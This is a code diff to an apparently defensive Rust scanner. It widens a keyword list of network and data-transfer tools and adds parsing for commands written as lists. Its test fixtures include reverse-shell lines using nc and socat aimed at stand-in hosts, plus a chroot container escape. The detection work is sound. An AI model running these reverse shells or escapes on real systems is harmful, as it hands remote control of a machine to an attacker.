@@ -35,7 +35,24 @@ const DOCUMENTS: [&str; 20] = [
     ".ndjson",
 ];
 /// Without one of these no line is what is looked for.
-const MARKS: [&str; 28] = [
+const MARKS: [&str; 45] = [
+    "ssh",
+    "scp",
+    "rsync",
+    "git",
+    "aws ",
+    "gsutil",
+    "gcloud",
+    "rclone",
+    "azcopy",
+    "huggingface-cli",
+    "mail",
+    "ftp",
+    "nslookup",
+    "dig ",
+    "ttyd",
+    "docker",
+    "telnet",
     "curl",
     "wget",
     "nc",
@@ -87,7 +104,8 @@ pub(crate) fn sweep(scanner: &mut Scanner<'_>, place: &Place, name: &str, text: 
         }
         let mut place = place.clone();
         place.line = Some(index + 1);
-        let worst = [Some(line), Some(line.trim_start_matches(['-', ' '])), value(line)]
+        let flow = words_of_a_list(line);
+        let worst = [Some(line), Some(line.trim_start_matches(['-', ' '])), value(line), flow.as_deref()]
             .into_iter()
             .flatten()
             .map(judged)
@@ -98,6 +116,13 @@ pub(crate) fn sweep(scanner: &mut Scanner<'_>, place: &Place, name: &str, text: 
             scanner.report(rule, place, format!("{what}: {shown:?}"));
         }
     }
+}
+
+/// The words of a command that is written as a list: `[socat, 'exec:sh', 'tcp:…']`.
+fn words_of_a_list(line: &str) -> Option<String> {
+    let inner = line.split_once('[')?.1.rsplit_once(']')?.0;
+    let words: Vec<&str> = inner.split(',').map(|w| w.trim().trim_matches(['"', '\''])).collect();
+    (words.len() > 1).then(|| words.join(" "))
 }
 
 /// What stands behind a key: `run: …`, `- entry: …`, `commands = …`, `CMD …`.
@@ -138,6 +163,7 @@ mod tests {
         for (name, text) in [
             ("pre.yaml", "entry: nc -e /bin/sh 192.0.2.1 1\n"),
             ("compose.yml", "command: sh -c 'chroot /host sh'\n"),
+            ("init.yaml", "- [socat, 'exec:bash -li', 'tcp:example.org:4444']\n"),
         ] {
             assert_eq!(rules(name, text), ["code/harmful"], "{name}: {text}");
         }
